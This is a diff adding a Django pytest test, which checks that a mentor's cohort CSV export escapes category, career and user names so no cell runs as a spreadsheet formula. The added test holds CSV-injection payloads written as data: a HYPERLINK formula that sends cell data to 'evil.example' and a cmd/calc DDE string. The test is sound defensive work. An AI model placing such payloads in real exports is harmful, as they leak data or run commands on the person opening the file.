@@ -10,11 +10,12 @@ import pytest
 from django.contrib.auth.models import User
 from django.urls import reverse
 
+from careers.models import Career, SkillCategory
 from reports import services
 from reports.cohort import Shared, cohort
-from tests import html
-from tests.conftest import finished, logged_in, shared
-from tests.factories import UserFactory
+from tests import html, sheets
+from tests.conftest import finished, logged_in, rate_all, shared
+from tests.factories import UserFactory, assessment_for
 
 pytestmark = pytest.mark.django_db
 
@@ -105,6 +106,25 @@ def test_the_csv_holds_the_same_table(mentor: User) -> None:
     shown = [[cell.rstrip("%").replace("–", "") for cell in row[2:]] for row in rows_shown]
     assert [row[6:] for row in rows[1:]] == shown
     assert [row[0] for row in rows[1:]] == ["mentee0", "mentee1"]
+
+
+def test_the_csv_header_and_rows_never_run_as_formulas(mentor: User) -> None:
+    """Category and career names are a curator's, usernames a stranger's: in a mentor's
+    spreadsheet each is text, the header row's category names too."""
+    mentee = UserFactory(username="@SUM(1)")
+    assessment = assessment_for(mentee, n_skills=1)
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Help")'
+    SkillCategory.objects.filter(skills__requirements__career=assessment.career).update(
+        name=hostile
+    )
+    Career.objects.filter(pk=assessment.career_id).update(name="-1+cmd|' /C calc'!A0")
+    rate_all(assessment)
+    shared(services.finish_assessment(assessment=assessment), mentor)
+    sheet = logged_in(mentor).get(reverse("reports:cohort_csv"))
+    assert sheets.live_formulas(sheet.content) == []
+    header, row = sheets.rows(sheet.content)
+    assert header[6:] == [f"'{hostile}"]
+    assert row[:2] == ["'@SUM(1)", "'-1+cmd|' /C calc'!A0"]
 
 
 def test_nobody_else_sees_a_mentors_cohort(mentor: User, other_user: User) -> None:
